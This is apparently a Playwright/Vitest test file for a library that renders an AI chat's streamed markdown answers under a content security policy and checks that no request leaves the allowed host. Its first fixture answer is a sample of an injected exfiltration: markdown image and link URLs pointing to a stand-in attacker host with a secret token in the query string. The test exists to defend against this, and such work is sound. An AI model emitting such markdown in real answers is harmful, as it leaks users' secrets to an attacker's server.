// Real Chromium: a useChat conversation streamed through StreamingMarkdown in an app under the README's CSP.
import { join } from 'node:path';
import { createUIMessageStream, pipeUIMessageStreamToResponse } from 'ai';
import { describe, expect, test } from 'vitest';
import type * as Airlock from '../../src/browser.js';
import { modelAnswer } from '../../bench/fixtures/model-answer.js';
import { IN_CI } from '../support/corpora.js';
import { chromiumAvailable } from './chromium.js';
import { ALLOWED_HOST, ALLOWED_LINK, answerAround } from './exfil-answers.js';
import { readProbe } from './page-probe.js';
import { useStreamSession, type ChatHandler } from './stream-site.js';

/** The assistant's answers, one per turn: an injected exfiltration, then a longer answer with an allowed image. */
const ANSWERS: readonly string[] = [
  answerAround(
    '![status](https://evil.example/p.png?d=SECRET_TOKEN) [verify](https://evil.example/v?d=SECRET)',
  ),
  `${modelAnswer(3_000)}\n![chart](https://${ALLOWED_HOST}/chart.png)\n\nSee [TK-42](${ALLOWED_LINK})`,
];

/** Milliseconds between the model's text deltas of a few characters each. */
const DELTA_MS = 2;

/** Whether the AI SDK UI package is installed (a development dependency of the project). */
async function aiSdkReact(): Promise<boolean> {
  try {
    await import('@ai-sdk/react');
    return true;
  } catch {
    if (IN_CI) throw new Error('@ai-sdk/react is missing; CI must install the development dependencies');
    console.warn('skipping the useChat test: @ai-sdk/react is not installed');
    return false;
  }
}

/** Answers each chat request with the next answer, streamed as the AI SDK's UI message stream, delta by delta. */
function streamAnswers(): ChatHandler {
  let turn = 0;
  return (request, response) => {
    request.resume();
    const answer = ANSWERS[turn++ % ANSWERS.length] ?? '';
    const stream = createUIMessageStream({
      execute: async ({ writer }) => {
        writer.write({ type: 'text-start', id: 'answer' });
        for (let at = 0; at < answer.length; at += 4) {
          writer.write({ type: 'text-delta', id: 'answer', delta: answer.slice(at, at + 4) });
          await new Promise((resolve) => setTimeout(resolve, DELTA_MS));
        }
        writer.write({ type: 'text-end', id: 'answer' });
      },
    });
    void pipeUIMessageStreamToResponse({ response, stream });
  };
}

describe.runIf(chromiumAvailable() && (await aiSdkReact()))('StreamingMarkdown in a useChat app', () => {
  const session = useStreamSession('streaming-chat', {
    chatEntry: join(import.meta.dirname, 'chat-app.tsx'),
    chat: streamAnswers(),
  });

  test('two streamed turns render as renderMarkdownInto renders them, under the CSP, nothing leaving', async () => {
    const { browser, site, requests } = session();
    const page = await browser.context.newPage();
    await page.goto(`${site.origin}/chat`);
    for (const question of ['Summarize TK-42', 'And the other tickets?']) {
      await page.fill('input', question);
      await page.click('button');
      await page.waitForSelector('form[data-status="streaming"]');
      await page.waitForSelector('form[data-status="ready"]', { timeout: 60_000 });
    }
    await page.evaluate(`import('/airlock-sinks.js').then((module) => { window.airlock = module; })`);
    const shown = await page.evaluate(
      ({ answers, host }) => {
        const airlock = (window as unknown as { airlock: typeof Airlock }).airlock;
        const policy = airlock.defineEgressPolicy({ hosts: [host] });
        const outputs = Array.from(
          document.querySelectorAll('[data-role="assistant"] [data-airlock-markdown]'),
        );
        return outputs.map((output, index) => {
          const expected = document.createElement('div');
          airlock.renderMarkdownInto(expected, answers[index] ?? '', { policy });
          return {
            same: output.innerHTML === expected.innerHTML,
            links: output.querySelectorAll('a').length,
          };
        });
      },
      { answers: ANSWERS, host: ALLOWED_HOST },
    );
    await page.waitForTimeout(500);
    const probe = await readProbe(page);
    // markdown-it aligns table columns with a `style` attribute, which the README's CSP (`style-src 'self'`)
    // refuses and reports; those reports are counted apart, everything else must be zero.
    const tableStyles = probe.violations.filter((violation) => violation.directive === 'style-src-attr');
    const violations = probe.violations.filter((violation) => violation.directive !== 'style-src-attr');
    const outside = requests.filter((url) => !url.startsWith(`https://${ALLOWED_HOST}/`));
    console.log(
      `useChat conversation, ${String(ANSWERS.length)} streamed answers under the README's CSP: ` +
        `${String(outside.length)} requests outside the policy, ${String(probe.dialogs)} scripts run, ` +
        `${String(violations.length)} Trusted Types or other CSP violations (${String(tableStyles.length)} ` +
        'reports of table alignment styles refused)',
    );
    expect(shown.map((entry) => entry.same)).toEqual([true, true]);
    expect(shown[0]?.links).toBe(1);
    expect(outside).toEqual([]);
    expect(requests).toContain(`https://${ALLOWED_HOST}/chart.png`);
    expect({ dialogs: probe.dialogs, violations }).toEqual({ dialogs: 0, violations: [] });
    await page.close();
  }, 120_000);
});
